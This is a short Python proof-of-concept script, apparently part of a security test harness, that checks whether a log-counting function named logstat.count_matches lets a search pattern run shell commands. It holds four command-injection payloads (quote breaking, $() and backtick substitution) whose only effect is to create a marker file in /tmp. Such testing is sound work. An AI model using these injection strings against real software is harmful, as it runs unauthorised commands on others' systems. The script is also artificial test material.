"""Exploit of logstat.count_matches: runs a command through the pattern."""

import os
import sys

sys.path.insert(0, "/app")
import logstat  # noqa: E402

MARK = "/tmp/ase-poc-pwned"
PAYLOADS = [
    "x' /dev/null; touch " + MARK + "; echo '",
    'x" /dev/null; touch ' + MARK + '; echo "',
    "$(touch " + MARK + ")",
    "`touch " + MARK + "`",
]

for payload in PAYLOADS:
    if os.path.exists(MARK):
        os.remove(MARK)
    try:
        logstat.count_matches(payload, "app.log")
    except Exception as e:  # grep refused the pattern: this attempt did not work
        print(f"{payload!r}: {type(e).__name__}")
    if os.path.exists(MARK):
        print(f"vulnerable: the pattern {payload!r} ran a command")
        sys.exit(0)
print("[A.S.E] vulnerability not found")
